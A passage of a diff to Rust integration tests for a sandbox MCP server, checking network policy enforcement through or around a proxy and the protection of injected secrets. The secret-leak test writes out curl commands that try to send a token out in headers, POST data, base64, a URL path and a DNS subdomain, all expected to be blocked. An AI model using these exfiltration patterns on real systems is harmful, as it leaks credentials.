@@ -111,9 +111,14 @@ fn variables(policies: &TempDir) -> [(&'static str, &str); 1] {
     [("SANDBOX_MCP_POLICY_FOLDER", policies.path().to_str().unwrap())]
 }
 
-/// Sandboxes that bwrap starts reach nothing.
-fn nothing_is_reached() -> bool {
+/// In sandboxes that bwrap starts only programs that know a proxy reach anything.
+fn only_by_proxy() -> bool {
     std::env::var_os("SANDBOX_MCP_USE_BWRAP").is_some()
+}
+
+/// curl's words for each way that there is: by the proxy that variables name, and without it.
+fn ways() -> &'static [&'static str] {
+    if only_by_proxy() { &[""] } else { &["", "--noproxy '*'"] }
 }
 
 async fn fetch(client: &Client, session: &str, url: &str, how: &str) -> Value {
@@ -125,12 +130,17 @@ async fn what_the_policy_names_is_reached_in_both_ways_and_nothing_else() {
     let (port, policies) = world();
     let client = start_with(Era::Legacy, &variables(&policies)).await;
     let session = client.sandbox_with(json!({"policy": "named"})).await;
-    if nothing_is_reached() {
-        assert_ne!(fetch(&client, &session, &format!("http://host.internal:{port}/x"), "").await["exit_code"], 0);
-        return;
+    let url = format!("http://host.internal:{port}/x");
+    let without_proxy = ["--noproxy '*'", "--noproxy '*' -6"];
+    if only_by_proxy() {
+        for how in without_proxy {
+            assert_ne!(fetch(&client, &session, &url, how).await["exit_code"], 0, "{how}");
+        }
     }
-    for how in ["", "--noproxy '*'", "-x socks5h://127.0.0.1:3128", "--noproxy '*' -6"] {
-        let served = fetch(&client, &session, &format!("http://host.internal:{port}/x"), how).await;
+    for how in
+        ["", "-x socks5h://127.0.0.1:3128"].into_iter().chain(without_proxy.into_iter().filter(|_| !only_by_proxy()))
+    {
+        let served = fetch(&client, &session, &url, how).await;
         assert_eq!(served["stdout"], "served /x\n", "{how}: {served}");
         assert_eq!(served["denials"], json!([]), "{served}");
     }
@@ -147,13 +157,15 @@ async fn what_the_policy_names_is_reached_in_both_ways_and_nothing_else() {
         let refused = fetch(&client, &session, &url, how).await;
         assert!(!refused["stdout"].to_string().contains("served"), "{url} {how}: {refused}");
     }
-    let page = fetch(&client, &session, "http://93.184.215.14/", "--noproxy '*'").await;
-    assert!(page["stdout"].as_str().unwrap().contains("no rule of this sandbox's policy"), "{page}");
+    for how in ways() {
+        let page = fetch(&client, &session, "http://93.184.215.14/", how).await;
+        assert!(page["stdout"].as_str().unwrap().contains("no rule of this sandbox's policy"), "{page}");
+    }
     let refused = fetch(&client, &session, "http://example.invalid/", "").await;
     let denial = &refused["denials"][0];
     assert_eq!((&denial["kind"], &denial["target"]), (&json!("network"), &json!("example.invalid:80")), "{refused}");
     assert!(denial["how_to_ask"].as_str().unwrap().contains("request_access"), "{denial}");
-    let history = client.history(&session, "connection", 8).await;
+    let history = client.history(&session, "connection", if only_by_proxy() { 7 } else { 8 }).await;
     let connected = history.iter().find(|event| event["verdict"] == "allowed").unwrap();
     assert_eq!(connected["target"], format!("host.internal:{port}"));
     assert!(connected["sent"].as_u64() > Some(20) && connected["received"].as_u64() > Some(20), "{connected}");
@@ -163,9 +175,6 @@ async fn what_the_policy_names_is_reached_in_both_ways_and_nothing_else() {
 #[tokio::test]
 async fn what_is_granted_is_reached_from_then_on() {
     let client = start_with_a_user(Era::Legacy, &[]).await;
-    if nothing_is_reached() {
-        return;
-    }
     let session = client.sandbox_with(json!({"policy": "yolo-3"})).await;
     let code = "curl -s -o /dev/null -w '%{http_code}' http://granted.invalid:8080/";
     assert_eq!(client.run(&session, code).await["stdout"], "403");
@@ -198,17 +207,15 @@ async fn a_sandbox_without_a_server_reaches_nothing_and_with_the_next_one_all_ag
     let folder = tempfile::tempdir().unwrap();
     let mut first = start_in(folder.path(), Era::Legacy, &variables(&policies)).await;
     let session = first.sandbox_with(json!({"policy": "named", "persistent": true})).await;
-    if nothing_is_reached() {
-        return;
-    }
+    let way = ways().last().unwrap();
     let script = format!(
-        "while ! test -e /tmp/go; do sleep 0.1; done; curl -sS --noproxy '*' -m 1 http://host.internal:{port}/alone; echo $?"
+        "while ! test -e /tmp/go; do sleep 0.1; done; curl -sS {way} -m 1 http://host.internal:{port}/alone; echo $?"
     );
     let job = first.ok("run_command", json!({"session_id": session, "command": script, "wait_seconds": 0})).await;
     first.kill().await;
     tokio::time::sleep(std::time::Duration::from_millis(300)).await;
     let mut second = start_in(folder.path(), Era::Legacy, &variables(&policies)).await;
-    let served = fetch(&second, &session, &format!("http://host.internal:{port}/again"), "--noproxy '*'").await;
+    let served = fetch(&second, &session, &format!("http://host.internal:{port}/again"), way).await;
     assert_eq!(served["stdout"], "served /again\n", "{served}");
     second.output(&session, "touch /tmp/go").await;
     let arguments = json!({"session_id": session, "job_id": job["job_id"], "wait_seconds": 20});
@@ -221,9 +228,6 @@ async fn a_sandbox_without_a_server_reaches_nothing_and_with_the_next_one_all_ag
 fn a_single_command_reaches_what_it_may_and_is_told_what_it_may_not() {
     let (port, policies) = world();
     let person = Person::new();
-    if nothing_is_reached() {
-        return;
-    }
     let policy = policies.path().join("named.toml");
     let script = format!("curl -sS http://host.internal:{port}/single; curl -s http://example.invalid/; true");
     let output = person.run(&["exec", "--policy", policy.to_str().unwrap(), "--", "sh", "-c", &script]);
@@ -256,9 +260,6 @@ fn with_secret(echo: &Echo, folder: &std::path::Path, more: &str) -> u16 {
 
 #[tokio::test]
 async fn a_secret_arrives_where_it_belongs_and_is_never_inside() {
-    if nothing_is_reached() {
-        return;
-    }
     let folder = tempfile::tempdir().unwrap();
     let echo = Echo::start(folder.path(), false);
     let other = with_secret(&echo, folder.path(), "");
@@ -266,14 +267,14 @@ async fn a_secret_arrives_where_it_belongs_and_is_never_inside() {
     let client = start_with(Era::Legacy, &[("SANDBOX_MCP_CONFIG", config.to_str().unwrap())]).await;
     let session = client.sandbox_with(json!({"policy": "named"})).await;
     let port = echo.port;
-    for how in ["", "--noproxy '*'"] {
+    for how in ways() {
         let url = format!("http://host.internal:{port}/plain");
         let command = format!("curl -sS {how} -H \"Authorization: Bearer $TOKEN\" {url}");
         let answer = client.run(&session, &command).await;
         // The server sends back what it got; what comes in has the placeholder again.
         assert!(answer["stdout"].as_str().unwrap().contains("Authorization: Bearer sbx_secret_token_"), "{answer}");
     }
-    assert_eq!(echo.seen().matches(&format!("Authorization: Bearer {VALUE}")).count(), 2, "{}", echo.seen());
+    assert_eq!(echo.seen().matches(&format!("Authorization: Bearer {VALUE}")).count(), ways().len(), "{}", echo.seen());
     let model = client.run(&session, "curl -sS --noproxy '*' -H \"x-api-key: $TOKEN\" $MODEL_URL/messages").await;
     assert!(model["stdout"].as_str().unwrap().contains("test-model"), "{model}");
     let history = client.history(&session, "spent", 1).await;
@@ -298,14 +299,14 @@ async fn a_secret_arrives_where_it_belongs_and_is_never_inside() {
         format!("{other}/ -H \"Cookie: $TOKEN\""),
         format!("{other}/ -d \"$TOKEN\""),
         format!("{other}/ -d \"$(echo -n $TOKEN | base64 -w0)\""),
-        format!("--noproxy '*' {other}/$TOKEN"),
+        format!("{} {other}/$TOKEN", ways().last().unwrap()),
         "http://$(echo $TOKEN | tail -c 33).invalid/".to_owned(),
     ] {
         let stopped = client.run(&session, &format!("curl -sS {words}")).await;
         assert!(!stopped["stdout"].as_str().unwrap().contains("served"), "{words}: {stopped}");
         assert!(!stopped["denials"].as_array().unwrap().is_empty(), "{words}: {stopped}");
     }
-    let history = client.history(&session, "connection", 5).await;
+    let history = client.history(&session, "connection", 3 + ways().len()).await;
     assert!(history.iter().any(|event| event["verdict"] == "secret_leaving"), "{history:?}");
     assert!(!json!(history).to_string().contains(VALUE));
     let state = std::process::Command::new("grep").args(["-r", VALUE]).arg(client.state()).output().unwrap();
@@ -317,9 +318,6 @@ async fn a_secret_arrives_where_it_belongs_and_is_never_inside() {
 
 #[tokio::test]
 async fn a_sandbox_that_sends_a_placeholder_elsewhere_is_frozen_where_that_is_wanted() {
-    if nothing_is_reached() {
-        return;
-    }
     let folder = tempfile::tempdir().unwrap();
     let echo = Echo::start(folder.path(), false);
     let other = with_secret(&echo, folder.path(), "freeze_on_leak = true");
@@ -342,9 +340,6 @@ async fn a_sandbox_that_sends_a_placeholder_elsewhere_is_frozen_where_that_is_wa
 
 #[tokio::test]
 async fn tls_is_opened_for_the_host_of_a_secret_and_tools_trust_it() {
-    if nothing_is_reached() {
-        return;
-    }
     let folder = tempfile::tempdir().unwrap();
     let echo = Echo::start(folder.path(), true);
     with_secret(&echo, folder.path(), "");
@@ -356,18 +351,17 @@ async fn tls_is_opened_for_the_host_of_a_secret_and_tools_trust_it() {
     let python = format!(
         "import os, urllib.request as u; print(u.urlopen(u.Request('{url}', headers={{'X-Api-Key': os.environ['TOKEN']}})).status)"
     );
-    let tools = [
-        format!("curl -sS -o /dev/null -w '%{{http_code}}' -H \"X-Api-Key: $TOKEN\" {url}"),
-        format!("curl --noproxy '*' -sS -o /dev/null -w '%{{http_code}}' -H \"X-Api-Key: $TOKEN\" {url}"),
+    let curl = |way: &&str| format!("curl {way} -sS -o /dev/null -w '%{{http_code}}' -H \"X-Api-Key: $TOKEN\" {url}");
+    let mut tools: Vec<String> = ways().iter().map(curl).collect();
+    tools.extend([
         format!("python3 -c \"{python}\""),
         format!(
             "env -u SSL_CERT_FILE -u CURL_CA_BUNDLE curl -sS -o /dev/null -w '%{{http_code}}' -H \"X-Api-Key: $TOKEN\" {url}"
         ),
         format!("wget -q -S -O /dev/null --header=\"X-Api-Key: $TOKEN\" {url} 2>&1 | grep -o ' 200 ' | head -1"),
-    ];
+    ]);
     let java = std::process::Command::new("java").arg("-version").output().is_ok_and(|java| java.status.success());
-    let mut tools = Vec::from(tools);
-    if java && std::path::Path::new("/etc/ssl/certs/java/cacerts").exists() {
+    if java && ways().len() > 1 && std::path::Path::new("/etc/ssl/certs/java/cacerts").exists() {
         // With its own store of certificates, and without a proxy.
         let source = format!(
             "public class A {{ public static void main(String[] a) throws Exception {{ var c = (java.net.HttpURLConnection) \
